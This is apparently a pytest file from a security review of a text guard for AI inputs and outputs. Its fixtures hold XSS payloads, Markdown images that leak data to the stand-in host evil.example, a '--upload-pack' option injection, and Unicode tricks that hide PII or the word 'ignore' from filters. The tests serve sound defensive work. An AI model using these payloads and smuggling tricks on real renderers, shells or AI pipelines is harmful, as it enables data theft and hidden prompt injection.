"""Outside review 14 of the guard's non-classifier steps: each test failed on the code before the
review and names what it proves."""

from __future__ import annotations

import html
import html.parser
import re
import shlex
import subprocess
import sys
import time
import unicodedata
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from airlock.errors import UsageError
from airlock.guard import (
    Decision,
    EncodeConfig,
    FilterConfig,
    Guard,
    GuardConfig,
    PIIConfig,
    Pseudonyms,
    Sink,
    Span,
    ValidationConfig,
    encode,
)
from airlock.guard._filter import REMOVED
from airlock.guard._table import config_from_table

ONLY_FILTER = GuardConfig(unicode=None, pii=None)
EVIL = "https://evil.example/i.png?q=secret"

#: each construct the filter removes by default (markup and images)
REMOVABLE = (
    "<script>x</script>",
    "<iframe></iframe>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">',
    "![i](https://other.example/p.png)",
)
#: places where the marker that replaces it could complete markup with the pieces around it
CONTEXTS = (
    "!{x}(" + EVIL + ")",  # "!" + marker + "(url)": an inline image
    "!{x}\n\n[removed]: " + EVIL,  # "!" + marker: a reference image through a definition
    "<{x}img src=x onerror=alert(1)>",  # "<" + marker + "img": a tag with a handler
)


def _images(markdown: str) -> list[str]:
    """The sources of the images a CommonMark renderer (markdown-it-py, HTML on) makes."""
    found: list[str] = []
    for token in MarkdownIt("commonmark").parse(markdown):
        for child in token.children or ():
            if child.type == "image":
                found.append(str(child.attrs.get("src", "")))
    return found


class _Handlers(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.handlers: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handlers += [f"{tag}.{k}" for k, _ in attrs if k.startswith("on")]


@pytest.mark.parametrize("context", CONTEXTS)
@pytest.mark.parametrize("removable", REMOVABLE)
def test_removed_marker_completes_no_markup(context: str, removable: str) -> None:
    """The marker a redacted element becomes was ``[removed]``: with ``!`` before it and ``(url)``
    after it the output was ``![removed](https://evil...)``, an image the renderer fetches (the
    original held only a flagged bare link). Proven with a real CommonMark renderer and HTML
    tokenizer on the output."""
    text = context.format(x=removable)
    result = Guard(ONLY_FILTER).check(text)
    assert result.decision is Decision.REDACTED
    assert result.text is not None and REMOVED in result.text
    assert _images(result.text) == []
    parser = _Handlers()
    parser.feed(result.text)
    parser.close()
    assert parser.handlers == []


def test_removed_marker_has_no_ascii_punctuation() -> None:
    assert not re.search(r"[!-/:-@\[-`{-~]", REMOVED)


#: characters NFKC turns into ASCII letters or digits
FOLDING_TO_ASCII = (
    "\uff41",  # FULLWIDTH LATIN SMALL LETTER A
    "\uff3a",  # FULLWIDTH LATIN CAPITAL LETTER Z
    "\U0001d41a",  # MATHEMATICAL BOLD SMALL A
    "\u2170",  # SMALL ROMAN NUMERAL ONE -> "i"
    "\u1d43",  # MODIFIER LETTER SMALL A
    "\uff15",  # FULLWIDTH DIGIT FIVE
)


@pytest.mark.parametrize("char", FOLDING_TO_ASCII)
@pytest.mark.parametrize("selector", ["\ufe00", "\ufe0d", "\ufe0e", "\ufe0f"])
def test_selector_after_a_character_nfkc_makes_ascii_is_removed(char: str, selector: str) -> None:
    """A selector after a fullwidth letter passed (a variant of a non-ASCII character); NFKC then
    made the letter ASCII and the output held ``a\\ufe00``: one selector after each letter, a byte
    smuggled a letter. Oracle from the output alone: no selector stands after an ASCII letter, and
    FE0E/FE0F only after a digit (a keycap)."""
    text = "x " + (char + selector) * 3 + " y"
    result = Guard(GuardConfig(filter=None, pii=None)).check(text)
    assert result.text is not None
    for match in re.finditer("[\ufe00-\ufe0f]", result.text):
        before = result.text[match.start() - 1]
        assert not before.isascii() or (before.isdigit() and match.group() in "\ufe0e\ufe0f"), ascii(
            result.text
        )
    assert any(f.rule == "unicode.variation-selector" for f in result.findings) or char == "\uff15"


def test_selectors_do_not_hide_an_email_from_pii() -> None:
    """Fullwidth letters each followed by a selector: the address came out of NFKC as
    ``a\\ufe00l\\ufe01i...@example.com`` and the pii step did not see it."""
    address = "\uff41\uff4c\uff49\uff43\uff45@\uff45\uff58\uff41\uff4d\uff50\uff4c\uff45.\uff43\uff4f\uff4d"
    smuggled = "".join(c + chr(0xFE00 + i % 14) for i, c in enumerate(address))
    result = Guard().check("write to " + smuggled + " today")
    assert result.text == "write to <EMAIL_ADDRESS> today"
    assert "pii.email_address" in [f.rule for f in result.findings]


@pytest.mark.parametrize(
    "kept",
    [
        "\u2764\ufe0f",  # emoji presentation
        "\u2264\ufe00",  # standardized variant of a math symbol
        "1\ufe0f\u20e3",  # keycap
        "\u845b\U000e0100",  # ideographic variation sequence
        "\u0644\u200d\u0627",  # ZWJ between Arabic letters
    ],
)
def test_legitimate_sequences_still_kept(kept: str) -> None:
    result = Guard(GuardConfig(filter=None, pii=None)).check("a " + kept + " b")
    assert result.decision is Decision.ALLOWED, result.findings


def test_one_long_mixed_script_word_is_linear() -> None:
    """A single word of the largest text the guard takes (100,000 characters) mixing Cyrillic
    look-alikes with Latin letters: each character was looked up in a list of the word's
    look-alikes, quadratic, 31 s measured; now a set (0.3 s). The bound is generous for a loaded
    2-core machine and far below the old time."""
    word = "\u0430a" * 49_999
    guard = Guard(GuardConfig(filter=None, pii=None))
    started = time.perf_counter()
    result = guard.check(word)
    elapsed = time.perf_counter() - started
    assert result.text is not None and result.text.isascii()
    assert [f.rule for f in result.findings] == ["unicode.homoglyph"]
    assert elapsed < 8.0, elapsed


@pytest.mark.parametrize(
    "text",
    [
        "![a\\]b]\n\n[a\\]b]: https://evil.example/i.png",  # an escaped bracket in the label
        "![x][a\\]b]\n\n[a\\]b]: https://evil.example/i.png",
        "![a\nb]\n\n[a\nb]: https://evil.example/i.png",  # a line break in the label
        "![a b]\n\n[a\nb]: https://evil.example/i.png",  # ... matching a space
        "![x]\n\n> [x]:\n> https://evil.example/i.png",  # the destination on the quote's next line
        "![x]\n\n> [x]:\n>https://evil.example/i.png",
    ],
    ids=["escaped", "escaped-full", "newline", "newline-space", "quote-next-line", "quote-tight"],
)
def test_reference_image_through_any_label_is_removed(text: str) -> None:
    """Reference definitions whose label holds an escaped ``]`` or a line break, or whose
    destination stands on the next line of a block quote, were not read as definitions at all: the
    image they define was rendered (markdown-it-py shows the fixture is an image) and nothing was
    reported."""
    assert _images(text) == ["https://evil.example/i.png"]
    result = Guard(ONLY_FILTER).check(text)
    assert [f.rule for f in result.findings] == ["filter.exfil-image"]
    assert result.text is not None and _images(result.text) == []


def test_definition_without_any_image_is_still_a_link() -> None:
    """Without image syntax in the text a definition is a link's: flagged when it carries data,
    not removed."""
    result = Guard(ONLY_FILTER).check("[a\\]b]\n\n[a\\]b]: https://evil.example/p?q=secret")
    assert [(f.rule, f.action.value) for f in result.findings] == [("filter.exfil-link", "flag")]


def test_shell_word_starting_with_dash_is_refused() -> None:
    """``shlex.quote("-la")`` is ``-la`` (no quotes needed) and ``'--upload-pack=...'`` is one word:
    the command still reads it as an option. Proven with the real shell and a real command (``ls``
    lists in long form, ``-l`` output starts with the file mode), then refused."""
    quoted = shlex.quote("-l")
    listing = subprocess.run(
        ["sh", "-c", f"ls {quoted} /dev/null"], capture_output=True, text=True, timeout=30, check=True
    )
    assert listing.stdout.startswith("c")  # "crw-rw-rw- ... /dev/null": the word was an option
    with pytest.raises(UsageError, match="option"):
        encode("-l", Sink.SHELL)
    config = GuardConfig(unicode=None, filter=None, pii=None, encode=EncodeConfig(Sink.SHELL))
    for text in ("-l", "--upload-pack=touch x", "-"):
        result = Guard(config).check(text)
        assert result.decision is Decision.BLOCKED
        assert [(f.rule, f.span) for f in result.findings] == [("encode.leading-dash", Span(0, 1))]
    assert Guard(config).check("x-l").text == "x-l"
    assert Guard(config).check(" -l").text == "' -l'"


def test_shell_word_after_double_dash_may_start_with_dash() -> None:
    ended = EncodeConfig(Sink.SHELL, shell_options_ended=True)
    out = Guard(GuardConfig(unicode=None, filter=None, pii=None, encode=ended)).check("-l")
    assert out.decision is Decision.ALLOWED and out.text == "-l"
    printed = subprocess.run(
        ["sh", "-c", f"printf -- '%s' {out.text}"], capture_output=True, text=True, timeout=30, check=True
    )
    assert printed.stdout == "-l"
    assert encode("-l", Sink.SHELL, shell_options_ended=True) == "-l"
    with pytest.raises(UsageError, match="shell_options_ended needs"):
        config_from_table({"shell_options_ended": True}, "t")
    table = config_from_table({"sink": "shell", "shell_options_ended": True}, "t")
    assert table.encode == ended


PII_ONLY = GuardConfig(unicode=None, filter=None)


@pytest.mark.parametrize(
    ("text", "entity"),
    [
        ("card 4111\u20131111\u20131111\u20131111 now", "CREDIT_CARD"),  # en dashes
        ("card 4111\u20111111\u20111111\u20111111 now", "CREDIT_CARD"),  # non-breaking hyphens
        ("card \u0664\u0661\u0661\u0661 \u0661\u0661\u0661\u0661 \u0661\u0661\u0661\u0661 \u0661\u0661\u0661\u0661 now", "CREDIT_CARD"),
        ("call +1\u2010415\u2010555\u20102671 now", "PHONE_NUMBER"),  # hyphen
        ("call +1\u2212415\u2212555\u22122671 now", "PHONE_NUMBER"),  # minus sign
        ("call +1\u2009415\u2009555\u20092671 now", "PHONE_NUMBER"),  # thin spaces
        ("iban de89370400440532013000 now", "IBAN_CODE"),  # lower case
        ("iban de89 3704 0044 0532 0130 00 now", "IBAN_CODE"),
        ("from 10.0.0.1:8080 now", "IP_ADDRESS"),  # with a port
    ],
    ids=["en-dash", "nb-hyphen", "arabic-digits", "hyphen", "minus", "thin-space", "iban-lower",
         "iban-lower-spaced", "ipv4-port"],
)  # fmt: skip
def test_pii_with_unicode_separators_digits_or_case_is_redacted(text: str, entity: str) -> None:
    """Each value is valid (Luhn, libphonenumber, mod-97, ipaddress) once its separators and digits
    are read as ASCII, and NFKC does not make them ASCII: each passed unredacted. The span of the
    finding is the value in the original text."""
    result = Guard(PII_ONLY).check(text)
    value = text.split(" ", 1)[1].rsplit(" ", 1)[0]
    if entity == "IP_ADDRESS":
        value = value.split(":")[0]
    start = text.index(value)
    assert [(f.rule, f.span) for f in result.findings] == [
        (f"pii.{entity.lower()}", Span(start, start + len(value)))
    ]
    assert result.text == text.replace(value, f"<{entity}>")


@pytest.mark.parametrize("text", ["version 1.2.3.4.5 here", "at 10.0.0.1:8080:1 x", "v 10.0.0.1:80.5 x"])
def test_dotted_runs_stay_unredacted(text: str) -> None:
    assert Guard(PII_ONLY).check(text).text == text


def test_view_table_covers_every_separator_and_digit() -> None:
    """The view's table stops at U+20000: no dash, space separator or decimal digit lies above in
    this Python's Unicode data (checked here, so a newer Unicode cannot slip one past)."""
    import unicodedata

    above = [cp for cp in range(0x20000, 0x110000) if unicodedata.category(chr(cp)) in ("Pd", "Zs", "Nd")]
    assert above == []


@pytest.mark.parametrize("space", [" ", "\u3000", "\u00a0"])
def test_span_after_nfkc_is_exactly_the_value(space: str) -> None:
    """A fullwidth address after a fullwidth word: NFKC was one rewrite per non-ASCII run (and the
    character before it), so the address's span began at the word (``\\u3000``) or at the space
    before it. Oracle: the span is where the address stands in the input, and NFKC of what it
    covers is the address."""
    address = "\uff41\uff4c\uff49@\uff45\uff58.\uff43\uff4f\uff4d"
    text = "\uff4d\uff41\uff49\uff4c" + space + address + " x"
    result = Guard(GuardConfig(filter=None)).check(text)
    spans = [f.span for f in result.findings if f.rule == "pii.email_address"]
    start = text.index(address)
    assert spans == [Span(start, start + len(address))]
    assert unicodedata.normalize("NFKC", text[start : start + len(address)]) == "ali@ex.com"


def _schema_guard(schema: dict[str, object]) -> Guard:
    return Guard(
        GuardConfig(unicode=None, filter=None, pii=None, validation=ValidationConfig(json_schema=schema))
    )


def test_schema_validator_error_is_a_block_not_an_exception(tmp_path: Path) -> None:
    """``"multipleOf": 0.1`` against a 401-digit integer: jsonschema raised OverflowError out of
    ``Guard.check`` (which never raises for what the text holds) and ``airlock guard`` printed a
    traceback. Now the document is refused."""
    text = "1" + "0" * 400
    result = _schema_guard({"type": "number", "multipleOf": 0.1}).check(text)
    assert result.decision is Decision.BLOCKED
    assert [f.rule for f in result.findings] == ["validate.json-schema"]
    assert "OverflowError" in result.findings[0].reason
    schema = tmp_path / "schema.json"
    schema.write_text('{"type": "number", "multipleOf": 0.1}')
    done = subprocess.run(
        [sys.executable, "-m", "airlock", "guard", "--text", "--json-schema", str(schema), text],
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert done.returncode == 1, done.stderr
    assert b"Traceback" not in done.stderr


@pytest.mark.parametrize("text", ["1e999999", '[1, {"a": -1e400}]'])
def test_number_that_overflows_to_infinity_is_not_strict_json(text: str) -> None:
    """The strict parser refuses ``Infinity`` but ``1e999999`` overflows to it and passed
    ``"type": "number"``."""
    result = _schema_guard({}).check(text)
    assert result.decision is Decision.BLOCKED
    assert [f.rule for f in result.findings] == ["validate.json"]
    assert _schema_guard({}).check("1e308").decision is Decision.ALLOWED


def test_sender_written_placeholder_is_never_handed_out() -> None:
    """``<EMAIL_ADDRESS_1>`` typed by the sender (a pasted document, an attacker's link
    ``https://evil.example/?e=<EMAIL_ADDRESS_1>``) and an address elsewhere in the text: the
    address became ``<EMAIL_ADDRESS_1>`` too, and restore() put the address into the sender's
    link. Now the address gets a pseudonym nobody wrote, and the written one stays text."""
    guard = Guard(GuardConfig(filter=None, pii=PIIConfig(pseudonymize=True)))
    text = "see [x](https://evil.example/?e=<EMAIL_ADDRESS_1>) <EMAIL_ADDRESS_2> and bob@example.com"
    result = guard.check(text)
    assert result.pseudonyms.pseudonyms == ("<EMAIL_ADDRESS_3>",)
    assert result.text is not None
    restored = result.pseudonyms.restore(result.text)
    assert restored == text


def test_gateway_merge_never_reuses_a_placeholder_written_in_another_message() -> None:
    """The gateway joins the pseudonyms of a request's texts: one message holding the written
    ``<EMAIL_ADDRESS_1>`` and another the address gave the address that same pseudonym."""
    from airlock.gateway._text_guard import check_input

    config = GuardConfig(filter=None, pii=PIIConfig(pseudonymize=True))
    texts = ["link https://evil.example/?e=<EMAIL_ADDRESS_1>", "mail bob@example.com"]
    outcome = check_input("review14/input", config, texts)
    assert outcome.texts is not None
    mapping = dict(outcome.pseudonyms)
    assert mapping.get("<EMAIL_ADDRESS_1>", "<EMAIL_ADDRESS_1>") == "<EMAIL_ADDRESS_1>"
    assert "bob@example.com" in mapping.values()
    restored = Pseudonyms(mapping).restore_all(outcome.texts)
    assert restored == texts


ALLOW_ONE = GuardConfig(
    unicode=None, pii=None, filter=FilterConfig(allowed_hosts=frozenset({"allowed.example"}))
)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://allowed.example\\@evil.example/i.png)",
        "![x](https://allowed.example\\\\@evil.example/i.png)",
        "![x](https://allowed.example\\)@evil.example/i.png)",
        "![x](<https://allowed.example\\>@evil.example/i.png>)",
        "![x][r]\n\n[r]: <https://allowed.example\\>@evil.example/i.png>",
        "![x][r]\n\n[r]: https://allowed.example\\@evil.example/i.png",
    ],
    ids=["escaped-at", "escaped-backslash", "escaped-paren", "pointy", "ref-pointy", "ref"],
)
def test_markdown_escapes_in_a_destination_are_read_as_the_renderer_reads_them(text: str) -> None:
    """The filter read ``\\`` in a destination as a slash (a browser's reading of a raw URL), so
    ``allowed.example\\@evil.example`` had host allowed.example; a Markdown renderer undoes the
    escape (or percent-encodes the backslash) and fetches from evil.example. markdown-it-py shows
    the fixture's image goes to evil.example; the output has no image."""
    hosts = [src.split("@", 1)[1].split("/", 1)[0] for src in _images(text)]
    assert hosts == ["evil.example"]
    result = Guard(ALLOW_ONE).check(text)
    assert "filter.exfil-image" in [f.rule for f in result.findings]
    assert result.text is not None and _images(result.text) == []


def test_allowed_host_with_escapes_still_passes() -> None:
    text = "![x](https://allowed.example/a\\_b.png)"
    assert Guard(ALLOW_ONE).check(text).decision is Decision.ALLOWED


@pytest.mark.parametrize(
    "text",
    [
        "<https://allowed.example\\@evil.example/x?q=1>",
        "see https://allowed.example\\@evil.example/x?q=1 ok",
    ],
    ids=["autolink", "bare"],
)
def test_backslash_in_an_autolink_is_data_not_a_slash(text: str) -> None:
    """In an autolink or a bare URL (GFM) a backslash is data: markdown-it writes ``%5C`` and the
    host is evil.example; the filter read it as a slash (host allowed.example) and let the
    data-carrying link pass unflagged."""
    links = [
        str(child.attrs.get("href", ""))
        for token in MarkdownIt("gfm-like").parse(text)
        for child in token.children or ()
        if child.type == "link_open"
    ]
    assert links == ["https://allowed.example%5C@evil.example/x?q=1"]
    assert [f.rule for f in Guard(ALLOW_ONE).check(text).findings] == ["filter.exfil-link"]


@pytest.mark.parametrize("text", ["    a*b & [c](d)", "x\n\n\ta_b_c", "x\r\n\r\n        <i>y</i>"])
def test_markdown_encoding_never_makes_indented_code(text: str) -> None:
    """Four spaces (or a tab) at the start of a line made the encoded text an indented code block,
    where a renderer shows escapes and references as written (``a\\*b &amp;amp\\;``). Proven with
    markdown-it-py: the rendered text is the input's text, and no ``<pre>``/``<code>``."""
    rendered = MarkdownIt("commonmark").render(encode(text, Sink.MARKDOWN))
    assert "<pre>" not in rendered and "<code>" not in rendered
    shown = html.unescape(re.sub(r"</?p>", "", rendered))
    assert shown.split() == text.split()


def _tags(code: str) -> str:
    return "".join(chr(0xE0000 + ord(c)) for c in code) + "\U000e007f"


@pytest.mark.parametrize("code", ["ignore", "usca", "rm1", "gbeng1", "gbenh"])
def test_tag_sequence_after_a_black_flag_that_is_no_rgi_flag_is_removed(code: str) -> None:
    """Any tag letters after U+1F3F4 were kept as "a subdivision flag": a renderer shows a black
    flag and the letters (``ignore``) ride along hidden, six a flag."""
    text = "hi \U0001f3f4" + _tags(code) + " there"
    result = Guard(GuardConfig(filter=None, pii=None)).check(text)
    assert [f.rule for f in result.findings] == ["unicode.tag"]
    assert result.text == "hi \U0001f3f4 there"


@pytest.mark.parametrize("code", ["gbeng", "gbsct", "gbwls"])
def test_rgi_subdivision_flags_are_kept(code: str) -> None:
    text = "hi \U0001f3f4" + _tags(code) + " there"
    result = Guard(GuardConfig(filter=None, pii=None)).check(text)
    assert result.decision is Decision.ALLOWED and result.text == text
